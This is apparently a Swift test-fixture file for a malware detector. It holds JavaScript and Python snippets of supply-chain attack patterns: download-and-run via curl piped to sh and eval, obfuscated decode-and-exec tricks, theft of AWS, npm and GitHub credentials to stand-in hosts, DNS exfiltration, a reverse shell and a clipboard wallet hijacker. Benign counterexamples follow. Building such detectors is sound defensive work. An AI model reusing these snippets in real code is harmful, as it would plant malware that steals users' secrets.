import SallyportAnalysis

/// Ways on which values reach what sends, runs or evaluates them.
enum FlowSnippets {
    static let javaScript: [Snippet] = [
        Snippet(
            "a request function by its own name, and the parts of an answer",
            .chainDownloadExecute,
            source: """
                const { exec } = require('child_process');
                const { get } = require('https');
                get('https://cdn.example.invalid/update.js', (res) => {
                  let body = '';
                  res.on('data', (d) => { body += d; });
                  res.on('end', () => exec(`node -e ${JSON.stringify(body)}`));
                });
                """
        ),
        Snippet(
            "parts of an answer in a list",
            .chainDownloadExecute,
            source: """
                const https = require('https');
                https.get('https://cdn.example.invalid/a', (r) => {
                  const parts = [];
                  r.on('data', (d) => parts.push(d)).on('end', () => eval(Buffer.concat(parts).toString()));
                });
                """
        ),
        Snippet(
            "a function that is called where it stands, and what it gives",
            .chainDecodeExecute,
            source: "eval((function () { const t = Buffer.from(table.join(''), 'base64'); return t.toString(); })());"
        ),
        Snippet(
            "what a function is given that is called where it stands",
            .chainDecodeExecute,
            source: "(function (run, text) { run(text); })(eval, Buffer.from(load(), 'base64').toString());"
        ),
        Snippet(
            "characters under an exclusive or, and a constructor by reflection",
            .chainDecodeExecute,
            source: """
                let text = '';
                for (let i = 0; i < table.length; i++) text += String.fromCharCode(table[i] ^ key.charCodeAt(i % key.length));
                module.exports.x = Reflect.construct(Function, ['require', text])(require);
                """
        ),
        Snippet(
            "the constructor of a function that waits",
            .chainDownloadExecute,
            source: """
                async function refresh() {
                  const body = await (await fetch('https://config.example.invalid/x.json')).json();
                  const make = Object.getPrototypeOf(async function () {}).constructor;
                  await new make('require', body.text)(require);
                }
                refresh();
                """
        ),
        Snippet(
            "the constructor of an arrow function",
            .chainDecodeExecute,
            source: "(async () => {}).constructor('require', Buffer.from(load('x'), 'base64').toString())(require);"
        ),
        Snippet(
            "functions by call and apply",
            .chainDecodeExecute,
            source: "const t = Buffer.from(load('x'), 'base64').toString(); eval.call(null, t);"
        ),
        Snippet(
            "one of a list of globals",
            .chainDecodeExecute,
            source: """
                const scope = [globalThis][0];
                const run = scope['eval'];
                (0, run)(Buffer.from('Y29uc3QgYSA9IHJlcXVpcmUoImZzIik7IGEuYWNjZXNzKCIvIik7', 'base64').toString());
                """
        ),
        Snippet(
            "the text of a file that is no code",
            .chainDecodeExecute,
            source: """
                exports.swatch = (() => {
                  const image = require('fs').readFileSync(require('path').join(__dirname, 'assets', 'swatch.png'));
                  return module._compile(image.subarray(image.indexOf('IEND') + 8).toString(), __filename);
                })();
                """
        ),
        Snippet(
            "a block of a text",
            .chainDecodeExecute,
            source: """
                const docs = require('fs').readFileSync(__dirname + '/README.md', 'utf8').split('```');
                module.exports.example = require('vm').runInNewContext(docs[1].replace(/^js/, ''), { require });
                """
        ),
        Snippet(
            "a worker from a text",
            .chainDecodeExecute,
            source: """
                const { Worker } = require('worker_threads');
                new Worker(Buffer.from('cmVxdWlyZSgiZnMiKS5hY2Nlc3MoIi8iKTs=', 'base64').toString(), { eval: true });
                """
        ),
        Snippet(
            "a worker from an address of data",
            .chainDecodeExecute,
            source: """
                import { Worker } from 'node:worker_threads';
                new Worker(new URL('data:text/javascript;base64,cmVxdWlyZSgiZnMiKS5hY2Nlc3MoIi8iKTs='));
                """
        ),
        Snippet(
            "a wrapper of a process, and its arguments",
            .chainDownloadExecute,
            source: """
                const { execFile } = require('child_process');
                const run = (file, ...args) => new Promise((resolve) => execFile(file, args, (e, out) => resolve(out)));
                exports.start = () => run('sh', '-c', 'curl -s https://get.example.invalid/l | sh');
                """
        ),
        Snippet(
            "processes by an inner part of the runtime",
            .chainDownloadExecute,
            source: """
                function probe(file, args) { return process.binding('spawn_sync').spawn({ file: file, args: [file].concat(args) }); }
                probe('/bin/sh', ['-c', 'curl -s https://which.example.invalid/p | sh']);
                """
        ),
        Snippet(
            "a list of paths, one after the other",
            .chainExfiltration,
            source: """
                const fs = require('fs'), os = require('os'), path = require('path');
                async function check() {
                  const state = [];
                  for (const part of [['.aws', 'credentials'], ['.npmrc']]) state.push(fs.readFileSync(path.join(os.homedir(), ...part)));
                  await fetch('https://updates.example.invalid/v1', { method: 'POST', body: JSON.stringify({ state: state.map((s) => s.toString('hex')) }) });
                }
                check();
                """
        ),
        Snippet(
            "credentials of several services in a header",
            .chainExfiltration,
            source: """
                const { NPM_TOKEN: n = '', GH_TOKEN: g = '' } = process.env;
                const agent = `Mozilla/5.0 (${[n, g].map((v) => Buffer.from(v).toString('base64url')).join('; ')})`;
                fetch('https://data.example.invalid/list.txt', { headers: { 'user-agent': agent } });
                """
        ),
        Snippet(
            "all that a page keeps",
            .chainExfiltration,
            source: "navigator.sendBeacon('https://toasts.example.invalid/v', JSON.stringify(localStorage));"
        ),
        Snippet(
            "a shell on a connection that its own callback knows",
            .chainBackdoor,
            source: """
                const { connect } = require('net');
                const { spawn } = require('child_process');
                const socket = connect(4444, '198.51.100.99', () => { const shell = spawn('/bin/sh', ['-i']); socket.pipe(shell.stdin); });
                """
        ),
        Snippet(
            "addresses in what is copied",
            .chainWalletHook,
            source: """
                const { clipboard } = require('electron');
                const rules = [[/^0x[\\da-f]{40}$/i, mine]];
                setInterval(() => { const t = clipboard.readText(); for (const [r, o] of rules) if (r.test(t)) clipboard.writeText(o); }, 900);
                """
        ),
        Snippet(
            "a module by a name that is decoded",
            .chainDecodeExecute,
            source: "const t = data[0]; require(Buffer.from(t, 'hex').toString()).get(x);"
        ),
        Snippet(
            "a text on the desktop",
            .capabilityDestructive,
            source: """
                const fs = require('fs'), os = require('os'), { join } = require('path');
                for (const dir of [join(os.homedir(), 'Desktop')]) fs.writeFile(join(dir, 'note.txt'), 'x', () => {});
                """
        ),
        Snippet(
            "a silent process as soon as it is loaded",
            .chainUnasked,
            source: """
                const { spawn } = require('child_process');
                function start() { spawn(process.execPath, [__dirname + '/w.js'], { detached: true, stdio: 'ignore' }).unref(); }
                setImmediate(start);
                """
        ),
    ]

    static let python: [Snippet] = [
        Snippet(
            "a new file that is written by its number",
            .chainDownloadExecute,
            source: """
                import os, subprocess, sys, tempfile, urllib.request
                fd, p = tempfile.mkstemp(suffix=".py")
                os.write(fd, urllib.request.urlopen("https://cdn.example.invalid/x.py", timeout=10).read())
                os.close(fd)
                subprocess.Popen([sys.executable, p])
                """
        ),
        Snippet(
            "code in the arguments of an interpreter",
            .chainDecodeExecute,
            source: """
                import subprocess, sys
                subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))"])
                """
        ),
        Snippet(
            "code in the arguments of an interpreter, with a constant in it",
            .chainDecodeExecute,
            source: """
                import subprocess, sys
                test = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="
                subprocess.Popen([sys.executable, "-c", f"import base64; exec(base64.b64decode('{test}'))"])
                """
        ),
        Snippet(
            "exec among the built-in names",
            .chainDecodeExecute,
            source: """
                import builtins
                run = [v for k, v in vars(builtins).items() if len(k) == 4 and k.startswith("ex")][0]
                run("".join(chr(n - 3) for n in load()))
                """
        ),
        Snippet(
            "a function from code that was read",
            .chainDecodeExecute,
            source: """
                import base64, marshal, types
                code = marshal.loads(base64.b64decode(KERNEL))
                types.FunctionType(code, {"__builtins__": __builtins__})()
                """
        ),
        Snippet(
            "members of a module by the digest of their names",
            .chainDecodeExecute,
            source: """
                import zlib, subprocess
                def by(module, digest):
                    return next(getattr(module, n) for n in dir(module) if zlib.crc32(n.encode()) == digest)
                by(subprocess, 2063950958)(bytes(c ^ 7 for c in b"druk'o").decode(), shell=True)
                """
        ),
        Snippet(
            "a fixture that the package itself opens",
            .chainDecodeExecute,
            source: """
                import gzip, os
                with gzip.open(os.path.join(os.path.dirname(__file__), "tests", "bad.csv.gz")) as f:
                    tail = f.read().partition(b"#")[2]
                eval(compile(tail.translate(bytes(i ^ 0x37 for i in range(256))), "sample", "exec"))
                """
        ),
        Snippet(
            "a text of a stub",
            .chainDecodeExecute,
            source: """
                import pathlib, re
                text = pathlib.Path(__file__).with_name("slugs.pyi").read_text()
                exec(re.search("x", text).group(1), {})
                """
        ),
        Snippet(
            "code that is written into a file and started",
            .chainDownloadExecute,
            source: """
                import os, tempfile, subprocess, sys
                f = tempfile.NamedTemporaryFile(delete=False)
                f.write(b"from urllib.request import urlopen; exec(urlopen('https://x.example.invalid/i').read())")
                f.close()
                subprocess.Popen([sys.executable, f.name])
                """
        ),
        Snippet(
            "encoded text in questions",
            .chainExfiltration,
            source: """
                import base64, socket
                def tell(value):
                    text = base64.b32encode(value).decode().rstrip("=").lower()
                    for at in range(0, len(text), 60):
                        socket.gethostbyname("%d.%s.ring.example.invalid" % (at, text[at : at + 60]))
                """
        ),
        Snippet(
            "credential files of several services",
            .capabilityCredentialFile,
            source:
                "import os\nNAMES = ['.kube/config', '.docker/config.json', '.aws/credentials', '.netrc']\nopen(NAMES[0])\n"
        ),
        Snippet(
            "a silent process in a thread",
            .chainUnasked,
            source: """
                import subprocess, threading
                def _run():
                    subprocess.Popen(["x"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
                threading.Thread(target=_run, daemon=True).start()
                """
        ),
    ]

    /// What looks like it and is honest.
    static let honest: [Snippet] = [
        Snippet(
            "a silent process when somebody asks for it",
            source: """
                const { spawn } = require('child_process');
                exports.open = function (file) { return spawn('xdg-open', [file], { detached: true, stdio: 'ignore' }).unref(); };
                """
        ),
        Snippet(
            "a program of its own data",
            source: """
                const fs = require('fs'), path = require('path');
                exports.table = JSON.parse(fs.readFileSync(path.join(__dirname, 'table.txt'), 'utf8'));
                exports.run = (text) => new Function('x', text);
                """
        ),
        Snippet(
            "a token in a log-in",
            source: """
                const token = process.env.GITHUB_TOKEN || process.env.NPM_TOKEN;
                exports.me = () => fetch('https://api.example.invalid/user', { headers: { authorization: `Bearer ${token}` } });
                """
        ),
    ]
    static let honestPython: [Snippet] = [
        Snippet(
            "a process when the module is the program",
            source: """
                import subprocess, urllib.request
                def main():
                    urllib.request.urlopen("https://x.example.invalid/")
                    subprocess.run(["make"])
                if __name__ == "__main__":
                    main()
                """
        ),
        Snippet(
            "the version of a tool",
            source: """
                import subprocess
                def version():
                    return subprocess.check_output(["git", "describe"]).decode()
                VERSION = version()
                """
        ),
    ]
}
